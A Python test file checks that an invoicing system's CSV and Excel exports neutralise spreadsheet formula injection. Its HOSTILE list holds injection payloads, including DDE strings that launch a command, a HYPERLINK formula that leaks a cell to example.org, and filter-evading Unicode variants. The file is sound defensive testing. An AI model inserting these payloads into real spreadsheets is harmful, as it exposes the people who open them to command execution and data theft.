"""Abuse 20: what people type is no formula in any file for a spreadsheet, whoever writes the file."""

import csv
import io
import re
from dataclasses import replace
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest

from invoicing.exports.layouts.rules import DELIMITERS, LayoutColumn, Rows, file_of
from invoicing.exports.layouts.shipped import shipped
from invoicing.exports.months.rules import pack
from invoicing.exports.rules import DOCUMENT_COLUMNS, LINE_COLUMNS, Document, Side, lines_of, table
from invoicing.exports.vat126.rules import SCHEDULE_COLUMNS
from marketplace.contracts.importing import template
from marketplace.core.csv_files import csv_file, safe
from marketplace.core.spreadsheets import Sheet, workbook
from suppliers.evaluation import downloads
from suppliers.quotes.offers import Offer
from suppliers.quotes.price_schedule import price_schedule
from tests.architecture.export_samples import documents
from tests.unit.suppliers.quotes.schedules import schedule

HOSTILE = (
    "=1+1",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "   =1+1",
    "\u200b=1+1",
    "\u00a0@A1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
)
TENDER: Any = SimpleNamespace(reference="=1+1", title="=1+1&R=1+1")


def hostile_documents(text: str) -> list[Document]:
    """Documents in which every text is this one."""
    made = []
    for document in documents(Side.ISSUED):
        parties = {
            side: replace(getattr(document, side), name=text, vat_number=text, address=text, urn=text)
            for side in ("issuer", "buyer")
        }
        lines = tuple(
            replace(line, description=text, unit=text, exemption_reason=text) for line in document.lines
        )
        made.append(
            replace(
                document,
                **parties,
                lines=lines,
                number=text,
                status=text,
                purchase_order=text,
                for_invoice=text,
            )
        )
    return made


def texts_of(text: str) -> dict[str, tuple[bytes, str]]:
    """Every kind of CSV file, each with its delimiter, in which somebody typed this everywhere."""
    found = hostile_documents(text)
    files = {
        "a list": csv_file([text], [[text]]),
        "documents": csv_file(*_parts(table(DOCUMENT_COLUMNS, found))),
        "lines": csv_file(*_parts(table(LINE_COLUMNS, lines_of(found)))),
        "VAT126": csv_file(*_parts(table(SCHEDULE_COLUMNS, found))),
        "a month": pack(found, {}).index,
        "a comparison": downloads.as_csv([[text], [text]]),
        "a refused import": template.refused_text([text], [_refused(text)]),
    }
    layouts = {}
    for key, one in shipped().items():
        columns = (*one.layout.columns, LayoutColumn(text, text=text))
        for rows in (Rows.LINE, Rows.VAT):
            own = replace(one.layout, columns=columns, rows=rows, accounts={text: text}, nominal=text)
            layouts[f"{key}, {rows}"] = (
                file_of(own, found).decode(own.encoding).encode(),
                DELIMITERS[own.delimiter],
            )
    return {name: (content, ",") for name, content in files.items()} | layouts


def _parts(rows: list[Any]) -> tuple[Any, Any]:
    return rows[0], rows[1:]


def _refused(text: str) -> dict[str, Any]:
    return {"cells": {text: text}, "problems": [{"column": text, "enter": text}]}


def workbooks_of(text: str) -> dict[str, bytes]:
    """Every kind of workbook in which somebody typed this everywhere."""
    found = hostile_documents(text)
    sheets = (
        Sheet("Documents", table(DOCUMENT_COLUMNS, found)),
        Sheet("Lines", table(LINE_COLUMNS, lines_of(found))),
        Sheet("VAT126", table(SCHEDULE_COLUMNS, found)),
    )
    return {
        "documents": workbook(sheets, text),
        "a comparison": downloads.workbook(TENDER, [("Ranking", [[text], [text]])]),
        "a refused import": template.refused_workbook([text], [_refused(text)]),
        "a price schedule": price_schedule(replace(schedule(), title=text, reference=text), Offer()),
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_abuse_20_no_text_is_a_formula_in_any_csv_file(text: str) -> None:
    for name, (content, delimiter) in texts_of(text).items():
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter):
            risky = [cell for cell in row if safe(cell) != cell and not _is_number(cell)]
            assert not risky, (name, risky)


@pytest.mark.parametrize("text", HOSTILE)
def test_abuse_20_no_cell_is_a_formula_or_a_link_in_any_workbook(text: str) -> None:
    for name, content in workbooks_of(text).items():
        book: Any = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert cells
        assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink], name
        assert any(cell.data_type == "s" for cell in cells), name


def _is_number(cell: str) -> bool:
    """Is this an amount, such as -36.00, which a spreadsheet may take for what it is?"""
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is not None
